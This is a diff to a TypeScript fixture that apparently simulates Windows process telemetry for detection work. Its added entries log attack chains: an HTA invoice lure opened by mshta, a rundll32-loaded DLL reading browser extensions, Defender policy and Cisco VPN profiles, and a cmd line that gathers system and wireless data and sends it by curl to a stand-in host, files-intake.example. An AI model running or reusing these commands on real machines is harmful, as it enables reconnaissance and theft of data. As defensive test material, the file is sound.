@@ -25,6 +25,12 @@ export const windowsCollectors: readonly Host[] = [
           '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\otate\\AppData\\Local\\Temp\\Temp1_Chrome.Update.158.zip\\Update.js"',
         ],
       ]),
+      ...run("10:59:01", [1], wscript, [
+        [
+          cmd,
+          '"C:\\Windows\\System32\\cmd.exe" /c systeminfo&whoami /all&ipconfig /all&tasklist /svc >> %TEMP%\\radA1.tmp',
+        ],
+      ]),
       ...run(
         "10:59:02",
         [4, 6, 3, 9, 5],
@@ -88,9 +94,17 @@ export const windowsCollectors: readonly Host[] = [
     label,
     class: "host-script",
     behaviour: "a hidden, encoded PowerShell gathers protection, build and programs and posts them",
-    steps: run("09:03:12", [2], `${system32}mshta.exe`, [
-      [powershell, `powershell.exe -NoP -W Hidden -Enc ${encoded(hiddenScript)}`],
-    ]),
+    steps: [
+      {
+        time: "09:03:09",
+        image: `${system32}mshta.exe`,
+        command: '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\jweber\\Downloads\\Invoice_77120.hta"',
+        parent: explorer,
+      },
+      ...run("09:03:12", [2], `${system32}mshta.exe`, [
+        [powershell, `powershell.exe -NoP -W Hidden -Enc ${encoded(hiddenScript)}`],
+      ]),
+    ],
   },
   {
     name: "NVK-LT-0604",
@@ -100,26 +114,34 @@ export const windowsCollectors: readonly Host[] = [
     class: "host-burst",
     behaviour:
       "a library run by rundll32 looks for extensions of browsers, versions of Chrome and Office and the profiles of the VPN",
-    steps: run(
-      "16:41:10",
-      [2, 3, 1, 2, 4],
-      rundll,
-      [
+    steps: [
+      {
+        time: "16:40:58",
+        image: rundll,
+        command: "rundll32.exe C:\\ProgramData\\ntprint.dll,Start",
+        parent: cmd,
+      },
+      ...run(
+        "16:41:10",
+        [2, 3, 1, 2, 4],
+        rundll,
         [
-          cmd,
-          'cmd.exe /c dir /b "C:\\Users\\sbrandt\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Extensions"',
+          [
+            cmd,
+            'cmd.exe /c dir /b "C:\\Users\\sbrandt\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Extensions"',
+          ],
+          ["reg.exe", "reg query HKCU\\Software\\Google\\Chrome\\BLBeacon /v version"],
+          [
+            "reg.exe",
+            "reg query HKLM\\SOFTWARE\\Microsoft\\Office\\ClickToRun\\Configuration /v VersionToReport",
+          ],
+          ["reg.exe", 'reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /s'],
+          [cmd, 'cmd.exe /c type "C:\\ProgramData\\Cisco\\Cisco Secure Client\\VPN\\Profile\\*.xml"'],
+          ["reg.exe", "reg query HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles /s"],
         ],
-        ["reg.exe", "reg query HKCU\\Software\\Google\\Chrome\\BLBeacon /v version"],
-        [
-          "reg.exe",
-          "reg query HKLM\\SOFTWARE\\Microsoft\\Office\\ClickToRun\\Configuration /v VersionToReport",
-        ],
-        ["reg.exe", 'reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /s'],
-        [cmd, 'cmd.exe /c type "C:\\ProgramData\\Cisco\\Cisco Secure Client\\VPN\\Profile\\*.xml"'],
-        ["reg.exe", "reg query HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles /s"],
-      ],
-      { parentCommand: "rundll32.exe C:\\ProgramData\\ntprint.dll,Start" },
-    ),
+        { parentCommand: "rundll32.exe C:\\ProgramData\\ntprint.dll,Start" },
+      ),
+    ],
   },
   {
     name: "NVK-SRV-APP2",
@@ -164,19 +186,27 @@ export const windowsCollectors: readonly Host[] = [
     label,
     class: "host-script",
     behaviour: "one long line out of mshta: system, programs running, wireless profiles, sent away by curl",
-    steps: run("11:47:33", [1, 2, 3, 6], `${system32}mshta.exe`, [
-      [
-        cmd,
-        '"C:\\Windows\\System32\\cmd.exe" /c (systeminfo & tasklist /v & netsh wlan show profiles & powershell Get-MpPreference) > %TEMP%\\~d.log & curl -s -F "f=@%TEMP%\\~d.log" https://files-intake.example/up',
-      ],
-      ["systeminfo.exe", "systeminfo"],
-      ["tasklist.exe", "tasklist  /v"],
-      ["netsh.exe", "netsh  wlan show profiles"],
-      [
-        "curl.exe",
-        'curl  -s -F "f=@C:\\Users\\mkoch\\AppData\\Local\\Temp\\~d.log" https://files-intake.example/up',
-      ],
-    ]),
+    steps: [
+      {
+        time: "11:47:30",
+        image: `${system32}mshta.exe`,
+        command: "mshta https://files-intake.example/doc/11",
+        parent: explorer,
+      },
+      ...run("11:47:33", [1, 2, 3, 6], `${system32}mshta.exe`, [
+        [
+          cmd,
+          '"C:\\Windows\\System32\\cmd.exe" /c (systeminfo & tasklist /v & netsh wlan show profiles & powershell Get-MpPreference) > %TEMP%\\~d.log & curl -s -F "f=@%TEMP%\\~d.log" https://files-intake.example/up',
+        ],
+        ["systeminfo.exe", "systeminfo"],
+        ["tasklist.exe", "tasklist  /v"],
+        ["netsh.exe", "netsh  wlan show profiles"],
+        [
+          "curl.exe",
+          'curl  -s -F "f=@C:\\Users\\mkoch\\AppData\\Local\\Temp\\~d.log" https://files-intake.example/up',
+        ],
+      ]),
+    ],
   },
   {
     name: "NVK-LT-0613",
